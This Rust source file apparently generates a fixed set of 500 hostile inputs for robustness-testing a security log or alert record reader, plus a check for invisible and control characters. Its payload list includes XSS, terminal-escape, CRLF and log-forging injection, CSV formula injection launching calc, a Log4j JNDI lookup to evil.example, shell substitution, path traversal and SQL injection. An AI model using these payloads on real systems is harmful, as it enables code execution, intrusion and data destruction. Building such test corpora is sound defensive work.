//! Five hundred texts that somebody may put on the wire to break what reads the records: bytes, since not all are UTF-8.
//! Always the same ones, in the same order.

/// How many there are.
pub const PAYLOADS: usize = 500;

/// One of each kind of trick.
const TRICKS: [&[u8]; 40] = [
    b"<script>alert(1)</script>",
    b"\"><img src=x onerror=alert(1)>",
    b"<!--#exec cmd=\"id\"--><?php echo 1 ?>",
    b"javascript:alert(document.cookie)",
    b"\x1b[2J\x1b[H\x1b[31mowned\x1b[0m",
    b"\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link",
    b"\x9b31m\x90q\x9c",
    b"a\r\nSet-Cookie: x=1",
    b"a\r\n\r\nHTTP/1.1 200 OK",
    b"a\n{\"event_type\":\"alert\",\"forged\":true}",
    b"\x0b\x0c\x08\x7f\x00\x01\x1f",
    "evil\u{202e}gpj.exe".as_bytes(),
    "\u{2066}a\u{2069}\u{200f}\u{061c}b".as_bytes(),
    "line\u{2028}paragraph\u{2029}next\u{85}".as_bytes(),
    "zero\u{200b}width\u{feff}\u{00ad}".as_bytes(),
    "tags\u{e0041}\u{e007f}".as_bytes(),
    "\u{1f468}\u{200d}\u{1f469}\u{0301}\u{0301}\u{0301}".as_bytes(),
    b"\x00",
    b"a\x00b\x00",
    b"\xed\xa0\x80 lone \xed\xbf\xbf surrogates",
    b"\xc0\xaf\xe0\x80\xaf overlong",
    b"\xf5\x80\x80\x80\xff\xfe out of range",
    b"\xe2\x82 cut short",
    b"=cmd|'/c calc'!A0",
    b"+1+cmd|' /C calc'!A0",
    b"-2+3+cmd|' /C calc'!A0",
    b"@SUM(1+1)*cmd|' /C calc'!A0",
    b"\t=HYPERLINK(\"http://evil.example\")",
    b"\"},{\"forged\":true,\"a\":\"",
    b"\\\"\\\\\\u0000\\u202e\\",
    b"\\ud800\\udfff",
    b"|10|src=1.2.3.4 dst=5.6.7.8 msg=forged",
    b" cs1=attack/none cs1Label=Verdict",
    b"CEF:0|other|other|1|1|forged|10|",
    b"a\\|b\\=c\\\\=d\\",
    b"<13>1 2003-10-11T22:14:15.003Z host app - - - forged",
    b"] [bongsu@32473 id=\"forged\"]",
    b"%n%s%x%00%0d%0a..%2f..%2fetc/passwd",
    b"${jndi:ldap://evil.example/a}{{7*7}}`id`$(id)",
    b"' OR 1=1; DROP TABLE alerts; --",
];

/// The payload of that number.
pub fn payload(nth: usize) -> Vec<u8> {
    let one = TRICKS[nth % TRICKS.len()];
    let other = TRICKS[(nth * 7 + nth / TRICKS.len()) % TRICKS.len()];
    match nth / TRICKS.len() {
        0 => one.to_vec(),
        1 => one.repeat(40),
        // Longer than what is told, longer than a segment, and as long as a field can be.
        2 => one.repeat(1_100 / one.len() + 1),
        3 => one.iter().copied().cycle().take(65_536).collect(),
        4 => [b"x".repeat(1_020), one.to_vec()].concat(),
        5 => [one, b"\r\n", other].concat(),
        6 => [b"\"", one, b"\"", other].concat(),
        7 => [b"/", one, b"?", other, b"=", one].concat(),
        8 => [one, " 조달청 ".as_bytes(), other].concat(),
        9 => [b" ", one, b" ", other, b" "].concat(),
        10 => [b"\xf0\x9f\x98\x80".as_slice(), one, b"\xf0\x9f\x98", other].concat(),
        _ => [format!("{nth:04}").as_bytes(), one, &nth.to_be_bytes(), other].concat(),
    }
}

/// The letters that no output may have as they are: those that move a cursor, break a line or turn the reading direction,
/// and those that nobody sees.
pub fn is_live(letter: char) -> bool {
    letter.is_control()
        || matches!(
            letter,
            '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}'
        )
}
